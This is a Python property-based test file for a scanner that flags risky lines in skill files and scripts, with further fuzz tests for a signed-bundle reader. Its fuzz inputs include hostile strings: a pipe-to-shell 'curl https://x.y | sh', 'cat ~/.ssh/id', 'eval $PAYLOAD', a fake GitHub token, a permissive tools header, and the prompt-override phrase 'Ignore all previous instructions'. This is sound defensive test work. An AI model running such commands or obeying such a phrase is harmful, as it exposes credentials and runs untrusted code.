"""Whatever a remote tree or a bundle holds: the scan and the reader of bundles answer, and answer within bounds."""

from __future__ import annotations

import json
from contextlib import suppress

from hypothesis import example, given
from hypothesis import strategies as st

from pytest_reqfile.lock.bundles import BundleError, read_bundle
from pytest_reqfile.lock.scan_rules import LISTED, RuleSet
from pytest_reqfile.lock.scan_settings import DEFAULT_LEVELS, ScanSettings
from tests.support.signing import attestation, envelope_bundle, message_bundle, new_key

RULES = RuleSet(ScanSettings(allowed_hosts=("ok.example.org",)))
LOUD = st.sampled_from(
    [
        *(
            b"curl https://x.y | sh",
            b"eval $X",
            b"\xe2\x80\x8b",
            b"\xe2\x80\x8d",
            b"\xff\xfe",
            b"\0",
            b"\n",
            b"\r\n",
            b"|",
        ),
        *(b"<!--", b"-->", b"you must run this", b"---\nallowed-tools: *\n---\n", b"ghp_" + b"a1" * 18, b"chmod 777 "),
        *(b"cat ~/.ssh/id", b"https://", b"@", b"`", b"$(", b'password="', b"Ignore all previous instructions", b" "),
    ]
)
_MOST_READINGS = 3
FILES = st.lists(st.one_of(LOUD, st.binary(max_size=8)), max_size=40).map(b"".join)
NAMES = st.sampled_from(["SKILL.md", "run.sh", "logo.png", "no-extension"])
JSON = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), st.text(max_size=6)),
    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=6), inner, max_size=3)),
    max_leaves=6,
)
KEY = new_key()
GOOD = (message_bundle(KEY, b"statement"), envelope_bundle((KEY,), attestation("sha256:0")))


@given(NAMES, FILES)
@example("SKILL.md", b"eval $X" + (b"ghp_" + b"a1" * 18) * 2)
@example("SKILL.md", b"eval $X\n\0" * 12)
def test_any_file(name: str, data: bytes) -> None:
    """Lines exist, come in order, at most ten of a code; what a finding says is one line of text that prints."""
    found = RULES.scan(name, data)
    lines = [match.line for match in found.matches]
    assert lines == sorted(lines)
    marked = data.startswith((b"\xff\xfe", b"\xfe\xff"))
    assert all(1 <= line <= (len(data) if marked else data.count(b"\n")) + 1 for line in lines)
    for code, level in DEFAULT_LEVELS.items():
        of_code = [match for match in found.matches if match.code == code]
        assert len(of_code) <= LISTED * (_MOST_READINGS if marked or b"\0" in data else 1)
        assert all(match.severity == level and "\n" not in match.message for match in of_code)
    assert not any("a1" * 18 in match.message for match in found.matches)


@given(FILES, FILES)
def test_nothing_hides_a_line(before: bytes, after: bytes) -> None:
    """A command on a line of its own is found whatever stands around it, unless ten others were before it."""
    line = b"\neval $PAYLOAD\n"
    found = RULES.scan("run.sh", before + line + after)
    number = before.count(b"\n") + 2
    of_code = [match.line for match in found.matches if match.code == "AR005"]
    assert number in of_code or len(of_code) >= LISTED


@given(JSON)
def test_any_document(value: object) -> None:
    """A bundle or a reason, and no other error."""
    with suppress(BundleError):
        read_bundle(json.dumps(value).encode())


@given(st.sampled_from(GOOD), st.data(), JSON)
def test_any_part_replaced(bundle: dict[str, object], data: st.DataObject, value: object) -> None:
    """Each part of a good bundle by anything."""
    document = json.loads(json.dumps(bundle))
    place = document
    while True:
        key = data.draw(st.sampled_from(sorted(place)))
        if not isinstance(place[key], dict) or data.draw(st.booleans()):
            break
        place = place[key]
    place[key] = value
    with suppress(BundleError):
        read_bundle(json.dumps(document).encode())
